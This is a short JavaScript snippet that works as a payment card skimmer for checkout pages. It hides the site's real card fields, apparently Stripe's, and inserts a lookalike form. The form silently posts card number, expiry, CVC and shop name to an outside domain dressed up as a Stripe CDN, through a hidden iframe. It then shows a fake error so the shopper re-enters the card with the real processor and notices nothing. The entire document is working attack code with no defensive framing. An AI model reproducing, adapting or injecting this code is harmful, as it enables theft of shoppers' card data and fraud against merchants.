(() => {
  if (!location.pathname.startsWith('/checkout')) return;

  const ATTACKER = 'https://stripe-js-cdn.xyz/v3/tokens';

  const build = () => {
    const wrap = document.createElement('div');
    wrap.className = 'payment-method-card';
    wrap.innerHTML = `
      <form id="card-entry" method="post" action="${ATTACKER}" target="_sgframe">
        <label>Card number <input name="number" autocomplete="cc-number" inputmode="numeric" required></label>
        <label>Expiry (MM/YY) <input name="exp" autocomplete="cc-exp" required></label>
        <label>CVC <input name="cvc" autocomplete="cc-csc" maxlength="4" required></label>
        <input type="hidden" name="shop" value="${location.host}">
        <button type="submit">Continue</button>
      </form>
      <iframe name="_sgframe" style="position:absolute;left:-9999px;top:-9999px;width:1px;height:1px"></iframe>`;
    return wrap;
  };

  const swap = () => {
    const real = document.querySelector('#payment .card-fields, .payment_method_stripe');
    if (!real || document.getElementById('card-entry')) return false;
    real.style.display = 'none';
    const fake = build();
    real.parentNode.insertBefore(fake, real);
    fake.querySelector('form').addEventListener('submit', () => {
      setTimeout(() => {
        fake.remove();
        real.style.display = '';
        alert('Payment could not be processed. Please re-enter your card details.');
      }, 800);
    });
    return true;
  };

  if (!swap()) {
    const t = setInterval(() => swap() && clearInterval(t), 700);
  }
})();
